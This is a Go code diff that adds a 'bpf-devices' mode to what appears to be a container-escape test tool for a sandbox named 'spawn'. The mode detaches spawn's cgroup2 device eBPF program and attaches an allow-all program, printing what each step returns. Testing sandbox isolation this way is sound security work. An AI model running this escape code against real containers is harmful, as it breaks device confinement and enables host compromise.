@@ -9,17 +9,21 @@ import (
 	"errors"
 	"fmt"
 	"os"
+	"path/filepath"
 	"runtime"
 	"strings"
 	"syscall"
 	"unsafe"
 
+	"github.com/cilium/ebpf"
+	"github.com/cilium/ebpf/asm"
+	"github.com/cilium/ebpf/link"
 	"golang.org/x/sys/unix"
 )
 
 func main() {
 	if len(os.Args) < 2 {
-		fmt.Fprintln(os.Stderr, "usage: escape chroot|setns|handle|syscalls ARGS")
+		fmt.Fprintln(os.Stderr, "usage: escape chroot|setns|handle|syscalls|bpf-devices ARGS")
 		os.Exit(2)
 	}
 	var err error
@@ -32,6 +36,8 @@ func main() {
 		err = byHandle(os.Args[2], os.Args[3])
 	case "syscalls":
 		syscalls()
+	case "bpf-devices":
+		bpfDevices(os.Args[2], os.Args[3])
 	default:
 		err = fmt.Errorf("unknown attack %q", os.Args[1])
 	}
@@ -158,4 +164,92 @@ func syscalls() {
 	} {
 		fmt.Printf("%s=%s\n", c.name, name(c.err))
 	}
+}
+
+// bpfDevices attacks the cgroup2 device program that confines the
+// container, through cgroup2 mounted at root: in its own cgroup and each
+// one above it that it can see (up to floor, relative to root), it lists
+// the device programs attached, and detaches spawn's (only spawn's: other
+// containers' are never touched); then it attaches an allow-all program to
+// its own cgroup, which would make the device checks pass if attached
+// programs replaced those above. It prints what each step gave.
+func bpfDevices(root, floor string) {
+	data, err := os.ReadFile("/proc/self/cgroup")
+	if err != nil {
+		fmt.Println("error:", err)
+		return
+	}
+	own := ""
+	for _, line := range strings.Split(string(data), "\n") {
+		if p, ok := strings.CutPrefix(line, "0::"); ok {
+			own = p
+		}
+	}
+	if own == "" {
+		fmt.Println("error: no cgroup2 line in /proc/self/cgroup")
+		return
+	}
+	open := func(dir string) int {
+		fd, err := unix.Open(root+dir, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
+		if err != nil {
+			fmt.Printf("open %s: %v\n", dir, err)
+			return -1
+		}
+		return fd
+	}
+	for dir := own; ; dir = filepath.Dir(dir) {
+		detached := false
+		if fd := open(dir); fd >= 0 {
+			res, err := link.QueryPrograms(link.QueryOptions{Target: fd, Attach: ebpf.AttachCGroupDevice})
+			if err != nil {
+				fmt.Printf("query %s: %v\n", dir, err)
+			} else {
+				fmt.Printf("query %s: %d programs\n", dir, len(res.Programs))
+				for _, ap := range res.Programs {
+					prog, err := ebpf.NewProgramFromID(ap.ID)
+					if err != nil {
+						fmt.Printf("program %d: %v\n", ap.ID, err)
+						continue
+					}
+					if info, err := prog.Info(); err != nil || info.Name != "spawn_devices" {
+						prog.Close()
+						continue
+					}
+					err = link.RawDetachProgram(link.RawDetachProgramOptions{Target: fd, Program: prog, Attach: ebpf.AttachCGroupDevice})
+					fmt.Printf("detach from %s: %v\n", dir, errText(err))
+					detached = detached || err == nil
+					prog.Close()
+				}
+			}
+			unix.Close(fd)
+		}
+		if detached || dir == "/" || dir == floor {
+			break
+		}
+	}
+	allow, err := ebpf.NewProgram(&ebpf.ProgramSpec{
+		Type:         ebpf.CGroupDevice,
+		AttachType:   ebpf.AttachCGroupDevice,
+		Instructions: asm.Instructions{asm.Mov.Imm(asm.R0, 1), asm.Return()},
+		License:      "GPL",
+	})
+	if err != nil {
+		fmt.Println("load allow-all:", errText(err))
+		return
+	}
+	defer allow.Close()
+	if fd := open(own); fd >= 0 {
+		// Flags 0: an exclusive program, as if it could stand in for the
+		// ones attached above.
+		err := link.RawAttachProgram(link.RawAttachProgramOptions{Target: fd, Program: allow, Attach: ebpf.AttachCGroupDevice})
+		fmt.Printf("attach allow-all to %s: %v\n", own, errText(err))
+		unix.Close(fd)
+	}
+}
+
+func errText(err error) string {
+	if err == nil {
+		return "ok"
+	}
+	return err.Error()
 }
